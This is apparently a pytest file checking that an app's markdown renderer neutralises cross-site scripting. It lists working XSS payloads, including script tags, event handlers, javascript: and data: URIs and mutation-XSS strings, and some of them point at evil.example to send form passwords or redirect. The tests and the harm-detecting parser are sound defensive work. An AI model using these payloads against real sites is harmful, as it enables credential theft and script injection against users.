"""Bodies come from people who may be careless or malicious."""

import re
from html.parser import HTMLParser

import pytest

from app.modules.content.rendering import render_markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'http://evil.example'</style>",
    "<form action=http://evil.example><input name=password></form>",
    "<base href=http://evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![" onerror="alert(1)](https://e.example/x.png)',
    '[x](https://e.example/"onmouseover="alert(1))',
    "<https://e.example/\"><script>alert(1)</script>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```<script>\nx\n```",
    "``` \"onmouseover=alert(1)\nx\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]


class _Harm(HTMLParser):
    """Collects what a browser would run, load as code or send to."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"script", "style", "iframe", "object", "embed", "form", "input", "base", "meta", "link", "svg", "math"}:
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc", "id", "formaction"}:
                self.found.append(name)
            if name in {"href", "src"} and not re.match(r"(https?:|mailto:|tel:|[^:]*$)", value or ""):
                self.found.append(f"{name}={value}")


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_body_runs(attack: str) -> None:
    harm = _Harm()
    harm.feed(render_markdown(f"before\n\n{attack}\n\nafter"))
    assert harm.found == []


def test_markdown_survives() -> None:
    html = render_markdown(
        "# Title\n\nA *b* **c** ~~d~~ `e` [f](https://g.example \"h\")\n\n- one\n- two\n\n3. three\n\n"
        "> quote\n\n| a |\n|---|\n| b |\n\n```python\ncode\n```\n\n![alt](https://i.example/j.png)\n\n---\n"
    )
    for part in (
        "<h1>Title</h1>", "<em>b</em>", "<strong>c</strong>", "<s>d</s>", "<code>e</code>",
        'href="https://g.example"', "<li>one</li>", '<ol start="3">', "<blockquote>", "<td>b</td>",
        'class="language-python"', 'alt="alt"', "<hr>",
    ):  # fmt: skip
        assert part in html


def test_html_in_a_body_is_shown_as_text() -> None:
    assert "&lt;b&gt;bold&lt;/b&gt;" in render_markdown("<b>bold</b>")


def test_relative_links_work_and_foreign_pages_get_no_handle_on_ours() -> None:
    html = render_markdown("[here](/about) [there](https://e.example)")
    assert 'href="/about"' in html
    assert 'rel="noopener noreferrer"' in html


def test_deep_nesting_ends() -> None:
    render_markdown(">" * 5000 + " x")
    render_markdown("[" * 5000)
    render_markdown("*a " * 20000)
